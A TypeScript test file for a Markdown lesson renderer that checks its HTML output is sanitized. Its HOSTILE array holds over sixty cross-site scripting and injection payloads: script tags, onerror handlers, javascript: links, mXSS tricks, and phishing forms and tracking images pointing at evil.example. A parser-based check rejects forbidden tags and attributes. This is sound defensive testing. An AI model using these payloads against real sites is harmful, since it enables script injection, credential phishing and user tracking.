import { readFileSync } from 'node:fs';
import { performance } from 'node:perf_hooks';
import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { input } from '../../../tests/harness/inputs.ts';
import { renderLesson } from './render.ts';

const picture = (src: string) =>
  src.includes('gone') ? null : { url: `/api/v1/files/${encodeURIComponent(src)}`, width: 800, height: 400 };
const html = (markdown: string) => renderLesson(markdown, picture).html;

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD4=">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&nbsp;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(2)>x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](y.png)',
  '![x](y.png "t\\" onerror=\\"alert(1)")',
  '![x](https://evil.example/track.png)',
  '<img src="https://evil.example/track.png" srcset="https://evil.example/2.png 2x">',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example">Sign in</a></div>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<video src=x onerror=alert(1) autoplay></video><audio src=https://evil.example/a.mp3></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>',
  '<h2 id="root" name="getElementById">x</h2><p id=app>y</p>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://ok.example" target=_top rel=opener>x</a>',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '```x title="</figcaption><script>alert(1)</script>"\ncode\n```',
  '> [!NOTE] <img src=x onerror=alert(1)>\n> text',
  '# <img src=x onerror=alert(1)> heading',
  '| <script>alert(1)</script> |\n|:-|\n| <img src=x onerror=alert(1)> |',
  '<td style="text-align:left;background:url(javascript:alert(1))">x</td>',
];

/** Every tag left in the result with its attributes, as a parser (not a pattern) sees them. */
function tagsOf(result: string): { tag: string; attributes: Record<string, string> }[] {
  const tags: { tag: string; attributes: Record<string, string> }[] = [];
  const note = (tag: string, attributes: Record<string, string>) => {
    tags.push({ tag, attributes });
    return { tagName: tag, attribs: attributes };
  };
  sanitizeHtml(result, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    transformTags: { '*': note },
  });
  return tags;
}

const FORBIDDEN_TAGS =
  /^(script|style|iframe|object|embed|svg|math|form|input|button|textarea|link|meta|base|template|noscript|video|audio|body|marquee|xmp)$/;

function expectSafe(result: string): void {
  for (const { tag, attributes } of tagsOf(result)) {
    expect(tag).not.toMatch(FORBIDDEN_TAGS);
    for (const [name, value] of Object.entries(attributes)) {
      expect(name).not.toMatch(/^on|^style$|^srcset$|^srcdoc$|^name$/i);
      if (name === 'id') expect(value).toMatch(/^s-/);
      if (name === 'src') expect(value).toMatch(/^\/api\/v1\/files\//);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|#s-)/);
      if (name === 'target') expect(attributes.rel).toContain('noopener');
    }
  }
  expect(result).not.toMatch(/<script|<style|<iframe/i);
}

describe('hostile lessons', () => {
  it('has a corpus worth the name', () => {
    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60);
  });

  it.each(HOSTILE)('%j becomes harmless', markdown => {
    expectSafe(html(markdown));
    expectSafe(html(`> ${markdown}`));
    expectSafe(html(`- item\n\n  ${markdown}\n\ntext after`));
    expectSafe(html(`para ${markdown} graph`));
  });

  it('is harmless as one document too', () => {
    expectSafe(html(HOSTILE.join('\n\n')));
    expectSafe(html(HOSTILE.join(' ')));
  });

  it('does not take an address that a resolver should never have given', () => {
    const result = renderLesson(
      '![x](a.png) [y](b)',
      () => ({ url: 'javascript:alert(1)' }),
      () => 'javascript:alert(1)',
    );
    expect(result.html).not.toContain('javascript');
  });
});

describe('lessons', () => {
  it('moves headings below the page title and gives them ids of their own', () => {
    const { html: result, headings } = renderLesson(
      '#### Größe & mehr\n\n##### Part\n\n#### `Part`\n\n#### ???',
      picture,
    );
    expect(headings).toEqual([
      { level: 2, text: 'Größe & mehr', id: 's-größe-mehr' },
      { level: 3, text: 'Part', id: 's-part' },
      { level: 2, text: 'Part', id: 's-part-2' },
      { level: 2, text: '???', id: 's-part-3' },
    ]);
    for (const { id, level } of headings) expect(result).toContain(`<h${level} id="${id}">`);
  });

  it('writes code with a bar, callouts, task lists and tables in the markup the page styles', () => {
    const result = html(
      '```bash title="On your laptop"\n$ a < b\n```\n\n> [!TIP] Do\n> it **now**\n\n> [!NOTE]\n> plain\n\n- [x] done\n- [ ] open\n\n|a|b|\n|-|-:|\n|1|2|',
    );
    expect(result).toContain('<figcaption class="code-title">On your laptop</figcaption>');
    expect(result).toContain('<code class="language-bash">$ a &lt; b\n</code>');
    expect(result).toContain(
      '<aside class="callout callout-tip" role="note">\n<p class="callout-title">Do</p>\n<p>it <strong>now</strong></p>',
    );
    expect(result).toContain('<p class="callout-title">Note</p>\n<p>plain</p>');
    expect(result).toContain(
      '<li class="task task-done"><span class="task-box" role="img" aria-label="Done"></span> done</li>',
    );
    expect(result).toContain('<td class="align-right">2</td>');
    expect(result).toContain('<div class="table" role="region" tabindex="0" aria-label="Table"><table>');
  });

  it('shows pictures at their size, names the missing, and links to those elsewhere', () => {
    expect(html('![A map](maps/a%20b.png "T")')).toBe(
      '<p><img src="/api/v1/files/maps%2Fa%20b.png" alt="A map" title="T" width="800" height="400" loading="lazy" decoding="async" /></p>\n',
    );
    expect(html('<img src="x.png" width="200" alt="x">')).toContain('width="200" height="100"');
    expect(html('![x](images/gone.png)')).toContain('<span class="picture-missing">Picture missing: gone.png</span>');
    expect(html('![Chart](https://a.example/x.png)')).toContain(
      '<a href="https://a.example/x.png" rel="noopener noreferrer" target="_blank" class="picture-remote">Chart</a>',
    );
    expect(html('[![Chart](https://a.example/x.png)](https://b.example)')).not.toMatch(/<a[^>]*>[^]*<a/);
  });

  it('opens other sites apart, keeps anchors in the lesson, and asks about relative links', () => {
    expect(html('[x](https://a.example/?a=1&b=2)')).toContain(
      '<a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">x</a>',
    );
    expect(html('[x](#part-two)')).toContain('<a href="#s-part-two">x</a>');
    expect(html('[x](other.md)')).toContain('<span>x</span>');
    expect(renderLesson('[x](my%20sheet.pdf)', picture, href => `/files/${href}`).html).toContain(
      '<a href="/files/my sheet.pdf">x</a>',
    );
    expect(html('see https://a.example and server.py')).toContain('and server.py');
  });

  it('leaves formulas as text', () => {
    expect(html('Euler: $e^{i\\pi} + 1 = 0$ and $a_1 + b_1$.')).toContain('$e^{i\\pi} + 1 = 0$ and $a_1 + b_1$.');
  });

  it('counts words and minutes of what is read, not of the markup', () => {
    expect(renderLesson('**One** two <b class="x">three</b>', picture)).toMatchObject({ words: 3, minutes: 1 });
    expect(renderLesson('word '.repeat(1000), picture)).toMatchObject({ words: 1000, minutes: 5 });
  });
});

describe('a real course', () => {
  const ossf = input('course/ossf-lfd121/lfd121.md');
  it.skipIf(!ossf)('comes out safe, and fast enough to render on the fly', () => {
    const text = readFileSync(ossf as string, 'utf8');
    expectSafe(html(text));
    const lesson = text.slice(0, 50_000);
    const times = Array.from({ length: 5 }, () => {
      const started = performance.now();
      html(lesson);
      return performance.now() - started;
    });
    expect(Math.min(...times)).toBeLessThan(50);
  });
});
